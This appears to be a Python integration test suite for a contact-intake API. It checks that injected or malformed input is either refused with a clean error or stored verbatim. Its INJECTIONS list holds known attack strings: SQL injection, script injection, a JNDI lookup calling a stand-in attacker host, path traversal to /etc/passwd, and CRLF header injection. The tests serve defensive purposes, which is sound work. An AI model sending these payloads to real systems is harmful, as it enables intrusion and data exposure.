"""Hostile input at intake's edge: injection strings in every text field of every channel,
broken bodies, wrong content types, forged keys and keys outside their scope. Each is either a
clear 4xx naming what is wrong, or (free text is free) stored and published byte for byte; a
refused request leaves no row in the database and no event on Kafka."""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Iterator
from typing import Any

from ccshared.events import decode_event
from ccshared.events.payloads import ContactReceived
from tests.conftest import topic
from tests.integration.intake.conftest import Intake, TopicTail, samples

INJECTIONS = [
    "'; DROP TABLE contacts; --",
    '" OR 1=1 --',
    '"}],"channel":"phone","x":[{"',
    "<script>alert('x')</script>",
    "{{7*7}}${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "line\r\nX-Injected: yes",
    "\u202eevil\u202c 退款 投诉 🙂",
    "A" * 5000,
]
# Fields a customer writes freely: whatever arrives is kept exactly.
FREE_TEXT = {("text",), ("subject",), ("customer", "name")}
TABLES = ("contacts", "customers", "customer_identities", "outbox")


def _string_paths(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _string_paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _string_paths(item, (*path, index))
    elif isinstance(value, str):
        yield path


def _with(body: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any]:
    changed = copy.deepcopy(body)
    target: Any = changed
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return changed


def _unique(body: dict[str, Any], n: int) -> dict[str, Any]:
    """A new contact each time: the same body twice would be a retry, not an attack."""
    changed = copy.deepcopy(body)
    changed["external_id"] = f"{body['external_id']}-hostile-{n}"
    for part in ("email", "phone", "chat", "social"):
        if part in changed and "message_id" in changed[part]:
            changed[part]["message_id"] = changed["external_id"]
    return changed


async def _counts(intake: Intake) -> dict[str, int]:
    return {table: await intake.count(table) for table in TABLES if table != "outbox"}


async def test_injection_in_every_text_field_is_refused_cleanly_or_kept_verbatim(
    intake: Intake, kafka_bootstrap: str
) -> None:
    key = await intake.new_key()
    accepted: dict[str, tuple[tuple[Any, ...], str]] = {}
    refused = 0
    n = 0
    async with TopicTail(kafka_bootstrap, topic("intake.contacts")) as tail:
        for sample in samples()[:6]:
            for path in list(_string_paths(sample)):
                if path in {("channel",)}:
                    continue
                for attack in INJECTIONS:
                    n += 1
                    body = _unique(_with(sample, path, attack), n)
                    if path == ("external_id",):
                        body["external_id"] = f"{attack}-{n}"
                    before = await _counts(intake)
                    response = await intake.post(body, key)
                    assert response.status_code in (202, 413, 422), (path, attack, response.text)
                    if response.status_code == 202:
                        accepted[response.json()["id"]] = (path, attack)
                        continue
                    refused += 1
                    assert response.headers["content-type"] == "application/problem+json"
                    if response.status_code == 422:
                        fields = {e["field"] for e in response.json()["errors"]}
                        assert any(f.startswith("body") for f in fields), response.text
                    assert await _counts(intake) == before, (path, attack)
        for contact_id, (path, attack) in accepted.items():
            if path in FREE_TEXT:
                stored = await intake.db.fetchval(
                    "SELECT body::text FROM contacts WHERE id = $1", uuid.UUID(contact_id)
                )
                got: Any = json.loads(stored)
                for step in path:
                    got = got[step]
                assert got == attack, (path, attack)

        def published(records: list[Any]) -> dict[str, ContactReceived]:
            out = {}
            for record in records:
                _, payload = decode_event(record.value)
                assert isinstance(payload, ContactReceived)
                out[str(payload.contact_id)] = payload
            return out

        records = await tail.wait_for(lambda rs: set(published(rs)) >= set(accepted))
    events = published(records)
    assert set(events) == set(accepted)  # nothing refused reached Kafka
    for contact_id, (path, attack) in accepted.items():
        if path in (("text",), ("subject",)):
            assert getattr(events[contact_id], path[0]) == attack
    assert refused > 0  # structured fields refuse what is not theirs
    assert len(accepted) > 0  # free text keeps what the customer wrote
    assert await intake.count("contacts") == len(accepted)


async def test_broken_requests_of_every_kind_leave_no_trace(
    intake_factory: Any, kafka_bootstrap: str
) -> None:
    from intake.db.api_keys import revoke_key

    intake = await intake_factory(max_body_bytes=16_384)
    key = await intake.new_key()
    email_only = await intake.new_key(["email"])
    revoked = await intake.new_key()
    await revoke_key(intake.db, revoked.split("_")[1])
    good = samples()[0]  # a phone contact
    raw = json.dumps(good).encode()
    bearer = {"Authorization": f"Bearer {key}"}
    json_type = {"Content-Type": "application/json"}
    cases: list[tuple[str, dict[str, Any], bytes, int]] = [
        ("no key", json_type, raw, 401),
        ("empty bearer", {**json_type, "Authorization": "Bearer "}, raw, 401),
        ("basic auth", {**json_type, "Authorization": "Basic dXNlcjpwYXNz"}, raw, 401),
        ("forged secret", {**json_type, "Authorization": f"Bearer {key[:-6]}AAAAAA"}, raw, 401),
        ("made-up key", {**json_type, "Authorization": "Bearer cck_deadbeef_x"}, raw, 401),
        ("revoked key", {**json_type, "Authorization": f"Bearer {revoked}"}, raw, 401),
        ("outside scope", {**json_type, "Authorization": f"Bearer {email_only}"}, raw, 403),
        ("oversized", {**bearer, **json_type}, b'{"text":"' + b"x" * 20_000 + b'"}', 413),
        ("truncated json", {**bearer, **json_type}, raw[:-7], 422),
        ("trailing garbage", {**bearer, **json_type}, raw + b"}{", 422),
        ("not utf-8", {**bearer, **json_type}, raw.replace(b"+86", b"\xff\xfe"), 422),
        ("array body", {**bearer, **json_type}, b"[" + raw + b"]", 422),
        ("deep nesting", {**bearer, **json_type}, b"[" * 5000 + b"]" * 5000, 422),
        (
            "nan",
            {**bearer, **json_type},
            raw.replace(b'"duration_s": 412', b'"duration_s": NaN'),
            422,
        ),
        ("xml", {**bearer, "Content-Type": "application/xml"}, b"<contact/>", 415),
        ("form", {**bearer, "Content-Type": "application/x-www-form-urlencoded"}, b"a=b", 415),
        ("multipart", {**bearer, "Content-Type": "multipart/form-data; boundary=x"}, raw, 415),
        ("bad raw e-mail", {**bearer, "Content-Type": "message/rfc822"}, b"\x00\x01", 422),
        ("idempotency key", {**bearer, **json_type, "Idempotency-Key": "é".encode() * 3}, raw, 422),
    ]
    async with TopicTail(kafka_bootstrap, topic("intake.contacts")) as tail:
        for name, headers, body, status in cases:
            response = await intake.client.post("/v1/contacts", content=body, headers=headers)
            assert response.status_code == status, (name, response.text)
            assert response.headers["content-type"] == "application/problem+json", name
            assert response.json()["status"] == status, name
        for table in TABLES:
            assert await intake.count(table) == 0, table
        # A good contact afterwards goes through: it is the only thing Kafka ever sees.
        ok = await intake.client.post("/v1/contacts", content=raw, headers={**bearer, **json_type})
        assert ok.status_code == 202
        records = await tail.wait_for(lambda rs: len(rs) >= 1)
    ids = set()
    for record in records:
        _, payload = decode_event(record.value)
        assert isinstance(payload, ContactReceived)
        ids.add(str(payload.contact_id))
    assert ids == {ok.json()["id"]}
